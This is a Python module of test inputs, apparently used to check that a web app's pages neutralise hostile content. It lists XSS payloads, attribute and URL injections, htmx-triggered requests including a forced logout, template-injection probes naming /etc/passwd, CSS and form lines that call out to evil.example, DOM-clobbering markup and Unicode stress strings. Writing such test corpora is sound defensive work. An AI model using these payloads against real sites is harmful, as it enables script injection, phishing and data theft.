"""What somebody writes who wants our pages to run, load, hide, hang or break something. Each sets window.ran if it can."""

RUN = "window.ran=1"
OUT = "https://evil.example"

HTML = [
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href='{OUT}/'>",
    f"<link rel=stylesheet href='{OUT}/x.css'>",
    f"<form action='{OUT}'><button>Log in again</button></form>",
]
ATTRIBUTES = [
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'x" autofocus onfocus={RUN} y="',
    f"`onload={RUN}`",
    f'"><script>{RUN}</script>',
    "javascript:" + RUN,
]
LINKS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://x.example",
    f'https://x.example/"onmouseover="{RUN}',
    f"https://x.example/'><img src=x onerror={RUN}>",
    "data:text/html,<script>window.ran=1</script>",
    f"vbscript:{RUN} file:///etc/passwd blob:{OUT}/1",
    "https://user:password@evil.example/ http://0x7f000001/ //evil.example/x",
    f"http://{'a' * 300}.example/{'b' * 3000}",
    "*https://x.example/_a_*b* ~https://y.example~ `https://z.example`",
]
MACHINERY = [
    f"<div hx-get='{OUT}' hx-trigger=load></div>",
    "<div data-hx-get='/account/logout/' data-hx-trigger=load></div>",
    f"<div hx-on::load='{RUN}' hx-on:click='{RUN}'></div>",
    f"<b hx-vals='js:{{x:{RUN}}}' hx-get=/ hx-trigger='load'>x</b>",
    "<button data-key='j' data-act data-copy='x' popovertarget='account-menu'>x</button>",
    "{{ 7|add:7 }} {% debug %} {% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %> %(name)s {0.__class__} {name!r}",
    "<style>*{background:url(https://evil.example/)}</style>",
    "x;background:url(https://evil.example/)}*{color:red",
    "<img name=body id=connection><form id=composer name=cookie><input name=attributes></form>",
    "<a id=words><a id=words name=dataset href=x>",
    "__proto__ constructor prototype toString",
]
STRANGE = [
    "\u202eevil\u202c \u2066left\u2069 \u200f\u200e mixed \u202dtext",
    "مرحبا <b>abc</b> שלום (abc) 123 ‎",
    "A" * 10_000,
    "very long words " * 700,
    "Z\u0351\u036b\u0343\u0321\u034e\u0331a\u035b\u0313\u0344" + "\u0301" * 400 + "lgo",
    "👩‍👩‍👧‍👦👨🏿‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿🇲🇾" * 20,
    "before\0after",
    "lone \ud83d surrogate \udc00",
    "\u200b\u200c\u200d\ufeff\u00ad\u2060",
    "line\u2028separator\u2029paragraph\r\nnext\ttab\vtab",
    "\ufdfd" * 30,
    "ａｄｍｉｎ аdmin \u0430\u0501min",
    "\x1b[31mred\x1b[0m \x07 \x9b",
    "> quote\n> *bold _both* italic_ ~```fence\n<script>window.ran=1</script>",
]
CORPUS = [*HTML, *ATTRIBUTES, *LINKS, *MACHINERY, *STRANGE]
# For all that has a name on our side: fewer, since their pages are long.
NAMES = [*ATTRIBUTES, *HTML[::3], *MACHINERY[::3], *STRANGE[:8]]
